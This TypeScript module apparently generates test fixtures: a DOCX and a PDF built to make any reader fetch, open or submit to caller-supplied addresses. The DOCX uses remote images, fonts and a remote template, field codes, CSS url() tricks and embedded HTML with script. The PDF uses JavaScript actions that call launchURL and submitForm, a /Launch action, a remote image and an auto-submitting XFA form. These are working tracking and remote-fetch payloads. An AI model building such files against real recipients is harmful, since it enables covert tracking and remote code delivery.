import { strToU8, zipSync } from 'fflate';

/** Documents of an applicant who wants to know who reads them and when: whatever a reader could be made to fetch, send or open. */

const types = {
  word: 'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
  drawing: 'http://schemas.openxmlformats.org/drawingml/2006/main',
  picture: 'http://schemas.openxmlformats.org/drawingml/2006/picture',
  place: 'http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing',
  relation: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships',
  package: 'http://schemas.openxmlformats.org/package/2006/relationships',
} as const;

const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

/** A Word document with pictures, a template, an embedded page, a font and colours from these addresses. */
export function hostileWord(addresses: readonly string[]): Uint8Array {
  const parts: Record<string, string> = {
    '[Content_Types].xml': `${head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
      <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
      <Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/>
      <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    '_rels/.rels': relations([['document', 'officeDocument', 'word/document.xml', 'Internal']]),
    'word/document.xml': `${head}<w:document xmlns:w="${types.word}" xmlns:r="${types.relation}" xmlns:a="${types.drawing}"
      xmlns:wp="${types.place}" xmlns:pic="${types.picture}" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>
      <w:p><w:r><w:t>可疑的文件</w:t></w:r></w:p>${addresses.map(wordAttempts).join('')}</w:body></w:document>`,
    'word/_rels/document.xml.rels': relations([
      ...addresses.flatMap((address, index): readonly Relation[] => [
        [`picture${index}`, 'image', `${address}/docx-picture.png`, 'External'],
        [`link${index}`, 'hyperlink', `${address}/docx-link`, 'External'],
      ]),
      ['page', 'aFChunk', 'page.html', 'Internal'],
      ['fonts', 'fontTable', 'fontTable.xml', 'Internal'],
      ['settings', 'settings', 'settings.xml', 'Internal'],
    ]),
    'word/page.html': addresses
      .map((each) => `<img src="${each}/docx-chunk.png"><script src="${each}/docx.js"></script>`)
      .join(''),
    'word/fontTable.xml': `${head}<w:fonts xmlns:w="${types.word}" xmlns:r="${types.relation}">
      <w:font w:name="Far"><w:embedRegular r:id="font"/></w:font></w:fonts>`,
    'word/_rels/fontTable.xml.rels': relations([
      ['font', 'font', `${addresses[0]}/docx-font.odttf`, 'External'],
    ]),
    'word/settings.xml': `${head}<w:settings xmlns:w="${types.word}" xmlns:r="${types.relation}">
      <w:attachedTemplate r:id="template"/></w:settings>`,
    'word/_rels/settings.xml.rels': relations([
      ['template', 'attachedTemplate', `${addresses[0]}/docx-template.dotm`, 'External'],
    ]),
  };
  return zipSync(
    Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])),
  );
}

type Relation = readonly [id: string, type: string, target: string, mode: 'Internal' | 'External'];

function relations(all: readonly Relation[]): string {
  const each = all.map(
    ([id, type, target, mode]) =>
      `<Relationship Id="${id}" Type="${types.relation}/${type}" Target="${target}" TargetMode="${mode}"/>`,
  );
  return `${head}<Relationships xmlns="${types.package}">${each.join('')}</Relationships>`;
}

/** A picture that is linked and embedded, old and new; a field that fetches one; a link; styles that hide an address. */
function wordAttempts(address: string, index: number): string {
  const style = `red;background:url(${address}/docx-style.png)`;
  return `
    <w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><a:graphic><a:graphicData><pic:pic><pic:blipFill>
      <a:blip r:embed="picture${index}" r:link="picture${index}"/></pic:blipFill><pic:spPr><a:xfrm>
      <a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic>
      </wp:inline></w:drawing></w:r></w:p>
    <w:p><w:r><w:pict><v:shape style="width:90pt;height:90pt;background:url(${address}/docx-shape.png)">
      <v:imagedata r:id="picture${index}" src="${address}/docx-vml.png"/></v:shape></w:pict></w:r></w:p>
    <w:p><w:fldSimple w:instr="INCLUDEPICTURE ${address}/docx-field.png \\d"><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>
    <w:p><w:hyperlink r:id="link${index}"><w:r><w:t>前往 ${index}</w:t></w:r></w:hyperlink></w:p>
    <w:p><w:r><w:rPr><w:color w:val="${style}"/><w:rFonts w:ascii="x;background-image:url(${address}/docx-family.png)"/>
      <w:shd w:fill="${style}"/></w:rPr><w:t>styled</w:t></w:r></w:p>
    <w:altChunk r:id="page"/>`;
}

/** A PDF that wants to open, run, send and fetch: at once, with its page, by a click, by its form, by a picture that lies elsewhere. */
export function hostilePdf(address: string): Uint8Array {
  const script = (place: string) =>
    `<< /S /JavaScript /JS (app.alert\\('ran'\\); app.launchURL\\('${address}/pdf-${place}'\\); this.submitForm\\('${address}/pdf-${place}'\\);) >>`;
  const link = `<< /S /URI /URI (${address}/pdf-link) /Next [${script('next')} << /S /Launch /F (${address}/pdf-launch) >>] >>`;
  const text = 'BT /F1 24 Tf 72 700 Td (hostile) Tj ET q 90 0 0 90 72 500 cm /Im1 Do Q';
  const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
    <subform name="form1"><field name="xfa"><event activity="initialize"><submit target="${address}/pdf-xfa"/></event>
    <value><image href="${address}/pdf-xfa.png"/></value></field></subform></template></xdp:xdp>`;
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${link} /AA << /WC ${script('close')} >> /AcroForm 7 0 R
      /Names << /JavaScript << /Names [(start) ${script('start')}] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O ${script('page')} >>
      /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /Im1 6 0 R >> >>
      /Annots [5 0 R 9 0 R] >>`,
    stream('', text),
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${link} >>`,
    stream(
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${address}/pdf-picture) >>`,
      'x',
    ),
    '<< /Fields [9 0 R] /XFA 8 0 R /NeedAppearances true >>',
    stream('', form),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [72 400 200 420] /AA << /F ${script('field')} >> >>`,
  ]);
}

function stream(entries: string, content: string): string {
  return `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

/** The first object is the catalog. */
function pdfOf(objects: readonly string[]): Uint8Array {
  let file = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const count = objects.length + 1;
  const end = `xref\n0 ${count}\n0000000000 65535 f \n${table}trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n`;
  return strToU8(`${file}${end}${file.length}\n%%EOF\n`);
}
